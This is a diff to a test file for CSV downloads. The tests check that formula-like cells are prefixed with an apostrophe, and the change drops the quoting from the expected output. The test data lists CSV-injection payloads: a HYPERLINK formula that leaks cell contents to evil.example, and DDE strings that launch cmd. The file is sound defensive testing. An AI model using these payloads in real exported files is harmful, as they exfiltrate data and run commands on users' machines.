@@ -64,10 +64,10 @@ describe("CSV downloads", () => {
   // OWASP's CSV-injection examples: each would run as a formula if a spreadsheet opened it raw.
   const hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
 
-  it("put an apostrophe before every cell a spreadsheet would read as a formula, and quote it", () => {
+  it("put an apostrophe before every cell a spreadsheet would read as a formula", () => {
     const text = formatCsv([["text"], ...hostile.map((h) => [h])]);
     expect(text.split("\n")[1]).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
-    expect(text.split("\n")[2]).toBe(`"'+cmd|' /C calc'!A0"`);
+    expect(text.split("\n")[2]).toBe(`'+cmd|' /C calc'!A0`);
     expect(values(text).slice(1).map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
   });
 
@@ -77,6 +77,6 @@ describe("CSV downloads", () => {
 
   it("serve a maintained table with the same cells, neutralising only formula cells", () => {
     const maintained = 'id,name,note\r\nact-a,"Ann",=1+1\r\nact-b,Bob,-4\r\n';
-    expect(servedCsv(maintained)).toBe("id,name,note\nact-a,Ann,\"'=1+1\"\nact-b,Bob,-4\n");
+    expect(servedCsv(maintained)).toBe("id,name,note\nact-a,Ann,'=1+1\nact-b,Bob,-4\n");
   });
 });
